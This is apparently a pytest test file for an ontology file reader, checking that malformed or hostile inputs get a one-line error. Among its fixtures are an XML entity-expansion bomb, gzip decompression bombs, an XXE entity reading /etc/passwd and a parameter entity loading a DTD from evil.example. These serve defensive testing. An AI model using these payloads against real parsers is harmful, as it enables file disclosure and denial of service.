"""Odd and hostile files: read where they are sound, else one clear line that names the spot, never a crash."""

from __future__ import annotations

import gzip
import json
import random
import re
from pathlib import Path

import pytest
from click.testing import CliRunner

from api.cli import cli
from ontology.errors import OntologyError
from ontology.load import shipped_packs
from ontology.reader import read_file, read_text
from ontology.syntax import Syntax
from ontology.writing.export import FORMATS, export

_NS = 'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:owl="http://www.w3.org/2002/07/owl#"'
_RDF = f'<?xml version="1.0" encoding="{{}}"?><rdf:RDF {_NS}><owl:Class rdf:about="http://t.example/热水器"/></rdf:RDF>'
_BOMB = "".join(f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 10))
_DEEP = 3000
_PLAIN = _RDF.format("UTF-8").encode()


@pytest.mark.parametrize("encoding", ["UTF-8", "GBK", "GB18030", "UTF-16", "utf-8-sig", "UTF-32"])
def test_any_declared_encoding_is_read(tmp_path: Path, encoding: str) -> None:
    text = _RDF.format("UTF-8" if encoding == "utf-8-sig" else encoding)
    (tmp_path / "a.owl").write_bytes(text.encode(encoding))
    assert "热水器" in read_file(tmp_path / "a.owl").axioms[0].short()


@pytest.mark.parametrize("encoding", ["utf-16-le", "utf-16-be"])
def test_utf_16_needs_neither_a_mark_nor_a_declaration(tmp_path: Path, encoding: str) -> None:
    (tmp_path / "a.owl").write_bytes(_RDF.format("UTF-16").encode(encoding))
    assert "热水器" in read_file(tmp_path / "a.owl").axioms[0].short()


@pytest.mark.parametrize("packed", [gzip.compress(_PLAIN), gzip.compress(_PLAIN[:90]) + gzip.compress(_PLAIN[90:])])
def test_a_packed_file_is_unpacked_and_its_syntax_found_in_it(tmp_path: Path, packed: bytes) -> None:
    (tmp_path / "a.owl").write_bytes(packed)
    assert read_file(tmp_path / "a.owl").syntax is Syntax.RDF_XML


def _xml(body: str, head: str = "") -> bytes:
    return f"{head}<rdf:RDF {_NS}\n xmlns:e='https://t.example/'>\n{body}\n</rdf:RDF>".encode()


def _turtle(body: str) -> bytes:
    return f"@prefix : <https://t.example/> .\n{body}\n".encode()


_HOSTILE: dict[str, tuple[bytes, str]] = {
    "half.owx": (
        b'<?xml version="1.0" encoding="utf-7"?><Ontology xmlns="http://www.w3.org/2002/07/owl#">x+2AA-y</Ontology>',
        "half.owx: holds U.D800, half of a character, as utf-7; save it as UTF-8",
    ),
    "open.jsonld": (b'{"@id":"' + b'\\"' * 500_000, "open.jsonld: .*"),
    # packing
    "bomb.owl.gz": (gzip.compress(b" " * (70 << 20)), "unpacks to more than"),
    "bombs.owl.gz": (gzip.compress(b" " * (30 << 20)) * 3, "unpacks to more than"),
    "twice.owl.gz": (gzip.compress(gzip.compress(_PLAIN)), "not UTF-8 .line 1, byte 1: 0x8b"),
    "cut.owl.gz": (gzip.compress(b"hello" * 999)[:40], "the gzip file is cut off; pack or fetch it again"),
    "noise.gz": (b"\x1f\x8b" + b"noise" * 20, "damaged gzip"),
    "tail.owl.gz": (gzip.compress(_PLAIN) + b"PK", "damaged gzip|cut off"),
    "flipped.owl.gz": (gzip.compress(_PLAIN)[:-8] + b"\x00" * 8, "damaged gzip"),
    # encodings
    "wrong.owl": (_RDF.format("UTF-8").encode("gbk"), "not UTF-8 \\(line 1, byte"),
    "wrong.ttl": (
        "@prefix : <http://t.example/> .\n:热水器 a :A .".encode("gbk"),
        "not UTF-8 \\(line 2, byte 33: 0xc8",
    ),
    "nobody.owl": (_RDF.format("x-unheard-of").encode(), "which is unknown; save it as UTF-8"),
    "codec.owl": (_RDF.format("rot13").encode(), "which is unknown; save it as UTF-8"),
    "idna.owl": (_RDF.format("idna").encode(), "not idna \\(line 1, byte 8: 0xe7"),
    "half.owl": (_RDF.format("UTF-16").encode("utf-16")[:-1], "not utf-16 .*truncated|not utf-16"),
    "nul.ofn": (b"Ontology(\x00)", "NUL"),
    "picture.owl": (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "not UTF-8 .line 1, byte 0: 0x89"),
    "zip.owl": (b"PK\x03\x04\x14\x00\x08\x08", "NUL characters"),
    # entities and nesting
    "entities.owl": (f'<!DOCTYPE r [<!ENTITY a0 "ha">{_BOMB}]><rdf:RDF>&a9;</rdf:RDF>'.encode(), "longer than"),
    "self.owl": (b'<!DOCTYPE r [<!ENTITY a "&b;"><!ENTITY b "&a;">]><rdf:RDF>&a;</rdf:RDF>', "part of itself"),
    "outside.owl": (b'<!DOCTYPE r [<!ENTITY a SYSTEM "file:///etc/passwd">]><rdf:RDF>&a;</rdf:RDF>', "another file"),
    "parameter.owl": (
        b'<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><rdf:RDF/>',
        "the entity 'p' lies in another file",
    ),
    "doctype.owl": (b"<!DOCTYPE r [" + b"<!---->" * 5000, "ends in the middle|this is no XML"),
    "count.ofn": (
        b"Ontology(SubClassOf(<urn:a>\n ObjectMinCardinality(" + b"9" * 5000 + b" <urn:p>)))",
        "line 2, column 23: expected a whole number of at most 18 digits",
    ),
    "count.owx": (
        b"<Ontology xmlns='http://www.w3.org/2002/07/owl#'>\n<SubClassOf><Class IRI='urn:a'/>"
        b"<ObjectMinCardinality cardinality='"
        + b"9" * 5000
        + b"'><ObjectProperty IRI='urn:p'/></ObjectMinCardinality>",
        "line 2, column 33: .* a whole number of at most 18 digits",
    ),
    "mac.owl": (_xml("<e:A>\n</e:B>").replace(b"\n", b"\r"), "line 4, column 3: .*<e:A> of line 3 is still open"),
    "undeclared.owl": (_xml("<e:A rdf:about='&shop;a'/>"), "line 3, column 1: .*an entity that is not declared"),
    "deep.ofn": (
        b"Ontology(SubClassOf(\n" + b"ObjectComplementOf(" * _DEEP + b")" * _DEEP + b"))",
        "line 2, column 1901: .*nested more than 100 deep",
    ),
    "deep.omn": (
        b"Prefix: : <urn:a>\nOntology: <http://a>\nClass: A\n SubClassOf: " + b"(" * _DEEP,
        "line 4.*nested more than",
    ),
    "deep.owx": (b"<Ontology>" + b"<ObjectComplementOf>" * _DEEP, "nested more than|line 1"),
    "deep.ttl": (_turtle(":a :p " + "( " * _DEEP), "line 3, column 1: .*never ends"),
    "deep.jsonld": (b'{"http://p":' * _DEEP + b"1" + b"}" * _DEEP, "nested more than"),
    # other kinds of file
    "empty.ttl": (b"", "it is empty"),
    "blank.owl": (b"\n \n", "it is empty|this is no XML|ends in the middle"),
    "page.owl": (b"<html><body>404</body></html>", "a web page, not an ontology; fetch the ontology itself"),
    "page.ttl": (b"<!DOCTYPE html>\n<html lang='en'><head/></html>", "a web page, not an ontology"),
    "pom.owl": (b"<project xmlns='http://maven.apache.org/POM/4.0.0'/>", "XML without a word of RDF"),
    "table.owl": (b"a,b,c\n1,2,3\n", "line 1, column 1: .*this is no XML; check that it is the right file"),
    "package.json": (b'{"name": "shop", "version": 1}', "well-formed JSON, but no ontology in JSON-LD"),
    "query.ttl": (b"PREFIX : <https://t.example/>\nSELECT * WHERE { ?s ?p ?o }", "line 2, column 1: .*SELECT is not"),
    # RDF/XML
    "cut.owl": (_PLAIN[:-10], "line 1, column .*it ends in the middle.*; <rdf:RDF> of line 1 is still open; fetch"),
    "tag.owl": (_xml("<e:A>\n</e:B>"), "line 4, column 3: .*<e:A> of line 3 is still open; repair one of the two"),
    "prefix.owl": (_xml("<x:A/>"), "line 3, column 1: .*«<x:A/>»: a prefix that is not declared; declare it"),
    "amp.owl": (_xml("<e:A rdf:about='a?b=1&c=2'/>"), "line 3, column 24: .*write & as &amp;"),
    "twice.owl": (_xml("<e:A rdf:about='a' rdf:about='b'/>"), "line 3, column 20: .*already has; remove one"),
    "bell.owl": (_xml("<e:A>\x07</e:A>"), "line 3, column 6: .*no control characters"),
    "after.owl": (_xml("") + b"\n<e:A/>", "line 5, column 1: .*the document has ended before this; remove what"),
    "names.owl": (_xml("<e:A about='a'/>"), "line 3, column 1: .*write rdf:about for about"),
    "both.owl": (_xml("<e:A/>\n<e:A rdf:about='a' rdf:ID='b'/>"), "line 4, column 1: .*keep one of rdf:about, rdf:ID"),
    "id.owl": (_xml("<e:A rdf:ID='a b'/>"), "line 3, column 1: .*take a name without blanks"),
    "text.owl": (_xml("<e:A/> stray\n<e:B/>"), "line 4, column 1: .*remove the text, or put it into a property"),
    "several.owl": (_xml("<e:A><e:p><e:B/><e:C/></e:p></e:A>"), 'line 3, .*rdf:parseType="Collection" or a property'),
    "parse.owl": (_xml("<e:A><e:p rdf:parseType='Set'/></e:A>"), "line 3, column 15: rdf:parseType is 'Set'; write"),
    "each.owl": (_xml("<e:A rdf:aboutEach='a'/>"), "line 3, column 1: .*aboutEach is not a valid attribute"),
    # Turtle and N-Triples
    "cut.ttl": (_turtle(":a :b"), "line 3, column 1: .*never ends; end it"),
    "prefix.ttl": (_turtle(":A a b:B ."), "line 2, column 6: .*declare it with @prefix"),
    "dot.ttl": (_turtle(":A a :B\n:C a :D ."), "line 3, column 1: .*end the sentence before it with a dot"),
    "text.ttl": (
        _turtle(':A :p "abc .\n:B a :C .'),
        "line 2, column 7: .*begins here or before and never ends; end it",
    ),
    "iri.ttl": (_turtle(":A :p <https://t.example/B ."), "line 2, column 7: .*begins here or before and never ends"),
    "subject.ttl": (_turtle('"A" a :B .'), "line 2, column 1: .*a sentence begins with an IRI"),
    "list.ttl": (_turtle(":A :p ( :B :C ."), "line 2, column 15: .*is not a valid RDF object; write an IRI"),
    "bracket.ttl": (_turtle(":A :p [ a :B ."), "line 2, column 14: .*should end with a ']'"),
    "escape.ttl": (_turtle(r':A :p "a\q" .'), "line 2, column 9: .*write .* for a backslash"),
    "language.ttl": (_turtle(':A :p "a"@1 .'), "line 2, column 11: .*write a tag such as zh-CN"),
    "quoted.ttl": (_turtle("<< :A :p :B >> :q :C ."), "line 2, column 1: .*OWL has none; annotate an axiom"),
    "nul.ttl": (_turtle(r"<https://t.example/\u0000> a :B ."), "line 2, column 20: .*the character U\\+0000"),
    "graphs.ttl": (_turtle(":g { :A a :B . }"), "line 2, column 4"),
    "logic.ttl": (_turtle("{ :A a :B } => { :C a :D } ."), "line 2, column 1"),
    "object.nt": (b"<urn:a> <urn:p> <urn:b> .\n<urn:a> <urn:p> .", "line 2, column 17: .*must be an IRI"),
    "prefixed.nt": (b"<urn:a> <urn:p> <urn:b> .\na:b <urn:p> <urn:c> .", "line 2, column 1: .*must be an IRI"),
    # JSON-LD
    "remote.jsonld": (b'{\n"@context": "https://schema.org/"}', "line 2, column 1: .*the network is never used"),
    "loop.jsonld": (b'{"@context": {"a": "b:c", "b": "a:d"}, "@id": "urn:a", "a": "x"}', "line 1, column 2: .*Cyclic"),
    "cut.jsonld": (b'{"@id": "urn:a",\n "@type": }', "line 2, column 11"),
    "id.jsonld": (b'{"@id": 5, "@type": "urn:b"}', "@id value must be a string"),
    "rdf.json": (
        b'{"https://t.example/A": {"http://www.w3.org/2000/01/rdf-schema#label": [{"type": "literal", "value": "A"}]}}',
        "JSON without a keyword of JSON-LD, such as @id",
    ),
    "word.jsonld": (b'"just a text"', "well-formed JSON, but no ontology in JSON-LD"),
}


@pytest.mark.parametrize("name", _HOSTILE)
def test_a_hostile_file_gets_one_clear_line(tmp_path: Path, name: str) -> None:
    data, said = _HOSTILE[name]
    (tmp_path / name).write_bytes(data)
    with pytest.raises(OntologyError, match=said) as raised:
        read_file(tmp_path / name)
    assert str(raised.value).startswith(name)
    assert "\n" not in str(raised.value)


@pytest.mark.parametrize("name", [name for name in _HOSTILE if not name.startswith("bomb")])
def test_the_command_refuses_a_hostile_file_in_one_line(tmp_path: Path, name: str) -> None:
    (tmp_path / name).write_bytes(_HOSTILE[name][0])
    result = CliRunner().invoke(cli, ["ontology", "check", str(tmp_path / name)])
    assert (result.exit_code, result.stdout) == (1, "")
    assert re.fullmatch(r"fengmi: [^\n]*\n", result.stderr)


_X, _Y, _V = (f"Variable(<urn:swrl:var#{name}>)" for name in "xyv")
_LABEL = "AnnotationAssertion(<http://www.w3.org/2000/01/rdf-schema#label>"
_PROBLEMS: dict[str, tuple[str, str, str]] = {
    "unbound head": (
        f"DLSafeRule(Body(ClassAtom(:A {_X})) Head(ObjectPropertyAtom(:p {_X} {_Y})))",
        "RULE",
        "?y of its head p(?x, ?y) is in no condition; add a condition that binds it",
    ),
    "unbound test": (
        f"DLSafeRule(Body(ClassAtom(:A {_X}) BuiltInAtom(<http://www.w3.org/2003/11/swrlb#equal> {_V} {_V})) "
        f"Head(ClassAtom(:B {_X})))",
        "RULE",
        "no condition binds the arguments of equal",
    ),
    "unknown built-in": (
        f"DLSafeRule(Body(ClassAtom(:A {_X}) BuiltInAtom(<http://www.w3.org/2003/11/swrlb#lucky> {_X})) "
        f"Head(ClassAtom(:B {_X})))",
        "RULE",
        "uses the unknown built-in http://www.w3.org/2003/11/swrlb#lucky; known: abs, add",
    ),
    "too few arguments": (
        f"DLSafeRule(Body(DataPropertyAtom(:d {_X} {_V}) BuiltInAtom(<http://www.w3.org/2003/11/swrlb#greaterThan> "
        f"{_V})) Head(ClassAtom(:B {_X})))",
        "RULE",
        "greaterThan(?v) needs 2 arguments, not 1",
    ),
    "unknown class": (f"DLSafeRule(Body(ClassAtom(:Zed {_X})) Head(ClassAtom(:B {_X})))", "RULE", "t#Zed is not decl"),
    "unknown property": (
        f"DLSafeRule(Body(ObjectPropertyAtom(:zed {_X} {_Y})) Head(ClassAtom(:B {_X})))",
        "RULE",
        "t#zed is not declared; correct the rule or declare the term",
    ),
    "built-in in the head": (
        f"DLSafeRule(Body(ClassAtom(:A {_X})) Head(BuiltInAtom(<http://www.w3.org/2003/11/swrlb#equal> {_X} {_X})))",
        "RULE",
        "is not supported in a rule",
    ),
    "empty rule": ("DLSafeRule(Body() Head())", "RULE", "says nothing; give it a body or a head"),
    "circle of classes": ("SubClassOf(:A :B) SubClassOf(:B :A)", "CYCLE", "A -> B -> A"),
    "disjoint with its superclass": (
        "SubClassOf(:A :B) DisjointClasses(:A :B)",
        "UNSATISFIABLE",
        "A can have no member",
    ),
    "one label for two": (f'{_LABEL} :A "同"@zh) {_LABEL} :B "同"@zh)', "SAME_LABEL", "are both called '同'"),
    "no label": ("Declaration(Class(:Silent))", "MISSING_LABEL", "Silent has no rdfs:label in zh and en"),
    "misspelt class": ("SubClassOf(:AA :B)", "UNDECLARED", "t#AA> is used in SubClassOf(AA B) and declared nowhere"),
    "text for a number": (
        'DataPropertyRange(:d <http://www.w3.org/2001/XMLSchema#integer>) DataPropertyAssertion(:d :i "many")',
        "VALUE",
        "'many' is no integer, which d takes; write a whole number",
    ),
    "broken pattern": (
        'AnnotationAssertion(<https://fengmi.example/general#pattern> :d "(open")',
        "STEERING",
        "'(open' of d cannot be used",
    ),
    "missing import": ("", "MISSING_IMPORT", "imports <https://t.example/gone>, which is in neither"),
}


@pytest.mark.parametrize("name", _PROBLEMS)
def test_what_is_wrong_in_a_sound_file_is_one_problem_that_names_the_term_and_the_file(
    tmp_path: Path, name: str
) -> None:
    lines, kind, said = _PROBLEMS[name]
    imported = "Import(<https://t.example/gone>)" if name == "missing import" else ""
    declared = ["Class(:A)", "Class(:B)", "ObjectProperty(:p)", "DataProperty(:d)", "NamedIndividual(:i)"]
    head = f"Prefix(:=<https://t.example/t#>) Ontology(<https://t.example/t> {imported}"
    text = f"{head} {' '.join(f'Declaration({one})' for one in declared)}\n{lines})"
    (tmp_path / "t.ofn").write_text(text, encoding="utf-8")
    result = CliRunner().invoke(cli, ["ontology", "check", str(tmp_path / "t.ofn"), "--json"])
    assert result.exit_code == (1 if kind in ("RULE", "VALUE") else 0)
    found = [problem for problem in json.loads(result.stdout)["problems"] if problem["kind"] == kind]
    assert [problem["file"] for problem in found if said in problem["text"]] == ["t.ofn"], found


def test_of_an_entity_declared_twice_the_first_holds() -> None:
    declared = '<!ENTITY e "https://t.example/first#"><!ENTITY e "https://t.example/second#">'
    text = f'<!DOCTYPE rdf:RDF [{declared}]><rdf:RDF {_NS}><owl:Class rdf:about="&e;A"/></rdf:RDF>'
    (axiom,) = read_text(text, file="t.owl").axioms
    assert str(axiom) == "Declaration(Class(<https://t.example/first#A>))"


@pytest.mark.parametrize("format", FORMATS)
def test_a_file_changed_at_random_is_read_or_refused_in_one_line(format: str) -> None:
    text = export(read_file(shipped_packs()["dialogue"]), format).text[:12_000]
    chance = random.Random(format)
    for _ in range(40):
        said = _refusal(_changed(text, chance), f"a.{format}")
        assert re.fullmatch(rf"(a\.{format}: [^\n]+)?", said)


def _refusal(text: str, file: str) -> str:
    """Why a text is refused; '' when it is read."""
    try:
        read_text(text, file=file)
    except OntologyError as error:
        return str(error)
    return ""


def _changed(text: str, chance: random.Random) -> str:
    """The text cut off, with a character exchanged, a piece taken out, or a piece said twice."""
    one, other = sorted(chance.sample(range(len(text)), 2))
    piece = text[one : min(other, one + 200)]
    return chance.choice(
        (
            text[:one],
            text[:one] + chance.choice("<>\"'()[]{}&;.:\\@^#\n \x01é蜜\u202e") + text[one + 1 :],
            text[:one] + text[one + len(piece) :],
            text[:one] + piece + text[one:],
        )
    )
